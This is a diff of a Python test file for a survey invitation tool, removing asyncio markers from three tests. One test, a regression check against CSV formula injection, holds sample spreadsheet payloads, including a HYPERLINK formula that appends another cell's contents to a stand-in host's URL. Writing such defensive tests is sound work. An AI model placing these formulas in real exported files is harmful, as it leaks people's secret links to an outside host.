@@ -91,7 +91,6 @@ def test_links_are_written_for_a_mail_merge_and_for_printing(tmp_path: Path) -> 
     assert (tmp_path / "plain" / "links.csv").read_text() == f"label,link,expires\nAda,{link},\n"
 
 
-@pytest.mark.asyncio
 async def test_no_file_of_links_or_people_holds_a_formula(tmp_path: Path) -> None:
     """Reproduction: a spreadsheet ran a cell of people.csv in the file that has everybody's secret link."""
     label, mail = '=HYPERLINK("https://a.example/?"&B2)', "+cmd()"
@@ -127,7 +126,6 @@ def test_a_link_that_is_not_an_invitation_is_not_repeated() -> None:
         assert "secret" not in str(refused.value)
 
 
-@pytest.mark.asyncio
 async def test_invitations_are_listed_reissued_and_revoked(tmp_path: Path) -> None:
     async with table(tmp_path, 1) as at:
         survey, where, how = await opened_survey(at), at.inside.directory, at.inside.transport
@@ -166,7 +164,6 @@ async def test_invitations_are_listed_reissued_and_revoked(tmp_path: Path) -> No
 
 
 @pytest.mark.slow
-@pytest.mark.asyncio
 async def test_invitations_from_the_command_line(tmp_path: Path) -> None:
     """Over TLS, as the commands know no other way."""
     place, out, people = tmp_path / "d", tmp_path / "out", tmp_path / "people.xlsx"
